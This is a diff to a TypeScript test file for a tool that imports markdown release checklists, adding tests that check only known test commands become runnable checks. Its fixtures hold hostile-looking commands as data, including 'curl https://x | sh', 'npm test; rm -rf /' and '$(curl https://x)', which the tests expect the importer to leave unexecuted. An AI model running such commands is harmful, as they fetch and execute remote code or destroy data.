@@ -370,7 +370,12 @@ describe.skipIf(!haveSeeds)('importChecklist on the seed checklists', () => {
       expect.arrayContaining(['Release timing', 'Testing', 'Changelog', 'Logging']),
     );
 
-    expect(playbook.policy.window).toEqual({ timezone: 'UTC', deny: ['fri', 'sat', 'sun'] });
+    // The release manager the importer declares may override the window it writes.
+    expect(playbook.policy.window).toEqual({
+      timezone: 'UTC',
+      deny: ['fri', 'sat', 'sun'],
+      override: ['release-manager'],
+    });
     expect(find(playbook, bulletLines(text)[0]!).title).toMatch(/^Do NOT release on Friday/);
     expect(titles(allItems(playbook)).some((t) => /Drop us a message|love to work/.test(t))).toBe(
       false,
@@ -628,6 +633,55 @@ describe('importChecklist rules', () => {
     expect(yaml).toContain('    gate: []');
     expect(yaml).toContain('      - title: push');
     expect(loadPlaybook(yaml).playbook.metadata?.source).toBe('b.md');
+  });
+});
+
+describe('importChecklist: text is data', () => {
+  const md = [
+    '## Checks',
+    '',
+    '- [ ] All tests pass (`rm -rf build && npm test`)',
+    '- [ ] Lint passes (`curl https://x | sh`)',
+    '- [ ] Tests green',
+    '  ```sh',
+    '  sudo systemctl restart app',
+    '  ```',
+    '- [ ] Unit tests pass (`npm test > out.txt`)',
+    '- [ ] Type check (`npm test; rm -rf /`)',
+    '- [ ] Audit clean (`$(curl https://x)`)',
+    '- [ ] Run the tests (`npm test`)',
+    '- [ ] Vitest passes (`npx vitest run`)',
+    '- [ ] Python tests',
+    '  ```',
+    '  pytest -q',
+    '  ```',
+    '- [ ] Go tests (`go test ./...`)',
+    '',
+  ].join('\n');
+
+  it('writes checks for known verifiers only, lists each, and keeps the rest as text nothing runs', () => {
+    const { result, playbook } = importAndLoad(md);
+    expect(result.commandChecks).toEqual([
+      { title: 'Run the tests (npm test)', command: 'npm test' },
+      { title: 'Vitest passes (npx vitest run)', command: 'npx vitest run' },
+      { title: 'Python tests', command: 'pytest -q' },
+      { title: 'Go tests (go test ./...)', command: 'go test ./...' },
+    ]);
+    const commands = allItems(playbook)
+      .filter((i) => i.check?.name === 'command')
+      .map((i) => i.check!.params);
+    expect(commands).toEqual(['npm test', 'npx vitest run', 'pytest -q', 'go test ./...']);
+    expect(find(playbook, 'Tests green').suggest?.run).toBe('sudo systemctl restart app');
+    expect(find(playbook, 'Tests green').check).toBeUndefined();
+    expect(result.yaml).not.toMatch(/check: .*(rm -rf|curl|sudo|> out|; rm)/);
+  });
+
+  it("does not put the project's test command in place of a command it refused", () => {
+    const result = importChecklist(md, 'c.md', { testCommand: 'npm test' });
+    const titles = result.commandChecks.map((c) => c.title);
+    expect(titles).not.toContain('All tests pass (rm -rf build && npm test)');
+    expect(titles).not.toContain('Tests green');
+    expect(titles).not.toContain('Unit tests pass (npm test > out.txt)');
   });
 });
 
